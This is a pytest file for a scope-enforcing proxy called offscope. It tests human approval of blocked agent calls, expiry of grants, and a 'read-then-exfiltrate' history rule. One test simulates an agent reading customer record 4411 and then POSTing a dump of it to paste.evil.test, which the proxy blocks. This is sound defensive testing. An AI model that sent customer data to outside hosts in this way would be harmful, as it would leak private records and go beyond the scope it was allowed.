"""Reviewable scope expansion and cross-call rules, through the real proxy.

A run blocked in enforce mode files a request; a human approves it (bound to
target, tool, argument digest, approver, expiry); the running proxy picks the
grant up from the ledger's overlay and lets exactly that call through, and the
trace records which grant allowed it. A history rule blocks writes to unnamed
hosts after the run read a customer record (read-then-exfiltrate).
"""

from __future__ import annotations

import asyncio
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from offscope.cli import main
from offscope.ledgers import CallInput, load_ledger
from offscope.policies import requests as reqs
from offscope.proxy.mitm.server import ProxyConfig, running_proxy
from offscope.trace.events import read_trace
from tests.support.loopback import json_upstream

LEDGER = """\
schema: offscope.ledger/1
id: billing
targets:
  hosts: [billing.acme.test]
  records: ["customer:4411"]
extract:
  - match: {path: "/customers/{id}"}
    targets: {record: "customer:{id}"}
"""


@pytest.fixture()
def upstream():
    with json_upstream() as port:
        yield port


def _config(tmp_path: Path, port: int, policy: str) -> ProxyConfig:
    hosts = ["billing.acme.test", "mirror.acme.test", "paste.evil.test"]
    return ProxyConfig(
        ledger=str(tmp_path / "ledger.yaml"),
        policy=policy,
        listen_port=0,
        metrics="127.0.0.1:0",
        trace=str(tmp_path / "trace.jsonl"),
        requests=str(tmp_path / "requests.jsonl"),
        confdir=str(tmp_path / "ca"),
        routes=",".join(f"{h}=127.0.0.1:{port}" for h in hosts),
        behavior=False,
    )


@pytest.mark.timeout(60)
async def test_blocked_call_becomes_request_then_reviewed_grant_lets_exactly_it_through(
    tmp_path, upstream
):
    (tmp_path / "ledger.yaml").write_text(LEDGER)
    async with running_proxy(_config(tmp_path, upstream, "enforce")) as proxy:
        async with httpx.AsyncClient(proxy=proxy.proxy_url("run-1")) as agent:
            blocked = await agent.put(
                "http://mirror.acme.test/customers/4411", json={"email": "a@b"}
            )
            assert blocked.status_code == 403
            request_id = blocked.json()["request_id"]

            # The review: approve exactly that call, for one hour.
            assert (
                main(
                    [
                        "requests",
                        "approve",
                        request_id,
                        "--log",
                        str(tmp_path / "requests.jsonl"),
                        "--ledger",
                        str(tmp_path / "ledger.yaml"),
                        "--approver",
                        "alice@acme.test",
                        "--expires",
                        "1h",
                        "--reason",
                        "OPS-42",
                    ]
                )
                == 0
            )
            for _ in range(100):  # the proxy polls its files every second
                again = await agent.put(
                    "http://mirror.acme.test/customers/4411", json={"email": "a@b"}
                )
                if again.status_code == 200:
                    break
                await asyncio.sleep(0.1)
            assert again.status_code == 200
            # Bound to the argument digest: a different body is still blocked.
            other = await agent.put(
                "http://mirror.acme.test/customers/4411", json={"email": "evil@x"}
            )
            assert other.status_code == 403

    events = [e for e in read_trace(tmp_path / "trace.jsonl") if e.type == "tool_call"]
    allowed = [
        e for e in events if e.decision == "allow" and e.call.url.startswith("http://mirror")
    ]
    assert len(allowed) == 1
    (grant_target,) = [t for t in allowed[0].call.targets if t.grant]
    assert grant_target.value == "mirror.acme.test" and grant_target.in_scope
    overlay = (tmp_path / "ledger.grants.yaml").read_text()
    assert "alice@acme.test" in overlay and request_id in overlay and grant_target.grant in overlay
    listed, decisions = reqs.read_log(tmp_path / "requests.jsonl")
    assert decisions[request_id]["decision"] == "approved"
    # Blocks before the reload landed filed requests too; the different body is its own request.
    assert {r["args_digest"] for r in listed} == {
        listed[0]["args_digest"],
        listed[-1]["args_digest"],
    }
    assert listed[0]["args_digest"] != listed[-1]["args_digest"]


def test_expired_grants_stop_applying(tmp_path) -> None:
    (tmp_path / "ledger.yaml").write_text(LEDGER)
    log = tmp_path / "requests.jsonl"
    log.write_text(
        json.dumps(
            {
                "schema": "offscope.request/1",
                "id": "req-1",
                "run": "r",
                "ledger": "billing",
                "tool": "http",
                "targets": ["host:mirror.acme.test"],
                "args_digest": None,
                "step": 1,
            }
        )
        + "\n"
    )
    issued = datetime(2026, 1, 1, tzinfo=UTC)
    reqs.approve(log, "req-1", tmp_path / "ledger.yaml", "bob", "2h", now=issued)
    ledger = load_ledger(tmp_path / "ledger.yaml").for_run("r")  # the grant is the requesting run's
    call = CallInput(source="http", method="GET", host="mirror.acme.test", path="/x")
    assert ledger.tag(call, now=issued + timedelta(hours=1)).in_scope
    assert not ledger.tag(call, now=issued + timedelta(hours=3)).in_scope
    assert not ledger.for_run("other").tag(call, now=issued + timedelta(hours=1)).in_scope
    with pytest.raises(Exception, match="already approved"):
        reqs.approve(log, "req-1", tmp_path / "ledger.yaml", "bob", "2h")


def test_approve_needs_an_approver_and_a_known_request(tmp_path, capsys) -> None:
    (tmp_path / "ledger.yaml").write_text(LEDGER)
    (tmp_path / "requests.jsonl").write_text("")
    code = main(
        [
            "requests",
            "approve",
            "req-nope",
            "--log",
            str(tmp_path / "requests.jsonl"),
            "--ledger",
            str(tmp_path / "ledger.yaml"),
            "--approver",
            "alice",
        ]
    )
    assert code == 2 and "no request 'req-nope'" in capsys.readouterr().err
    code = main(
        [
            "requests",
            "approve",
            "req-nope",
            "--log",
            str(tmp_path / "requests.jsonl"),
            "--ledger",
            str(tmp_path / "ledger.yaml"),
        ]
    )
    assert code == 2 and "--approver is required" in capsys.readouterr().err


HISTORY_POLICY = """\
schema: offscope.policy/1
id: no-exfil
mode: enforce
block_at: never
history:
  - name: read-then-exfiltrate
    after_kind: record
    after: {method: GET}
    then: {method: [POST, PUT, PATCH]}
    then_min_stage: act
"""


@pytest.mark.timeout(60)
async def test_history_rule_blocks_writes_to_unnamed_hosts_after_a_record_read(tmp_path, upstream):
    (tmp_path / "ledger.yaml").write_text(
        LEDGER + "stages:\n  - match: {host: paste.evil.test}\n    stage: act\n"
    )
    (tmp_path / "policy.yaml").write_text(HISTORY_POLICY)
    cfg = _config(tmp_path, upstream, str(tmp_path / "policy.yaml"))
    async with running_proxy(cfg) as proxy:
        async with (
            httpx.AsyncClient(proxy=proxy.proxy_url("clean")) as clean,
            httpx.AsyncClient(proxy=proxy.proxy_url("reader")) as reader,
        ):
            # Without a prior record read, a write to an unnamed host is recorded, not blocked.
            r0 = await clean.post("http://paste.evil.test/upload", json={"x": 1})
            assert r0.status_code == 200
            r1 = await reader.get("http://billing.acme.test/customers/4411")
            assert r1.status_code == 200
            r2 = await reader.post("http://billing.acme.test/notes", json={"x": 1})
            assert r2.status_code == 200  # in-scope write after the read: allowed
            r3 = await reader.post("http://paste.evil.test/upload", json={"dump": "customer 4411"})
            assert r3.status_code == 403
            assert "read-then-exfiltrate" in r3.json()["reason"]
    events = {
        (e.run, e.step): e for e in read_trace(tmp_path / "trace.jsonl") if e.type == "tool_call"
    }
    assert events[("reader", 3)].decision == "block" and events[("reader", 3)].request_id
    assert "read-then-exfiltrate" in events[("reader", 3)].reason
    assert events[("clean", 1)].decision == "allow" and events[("clean", 1)].call.scope == "out"
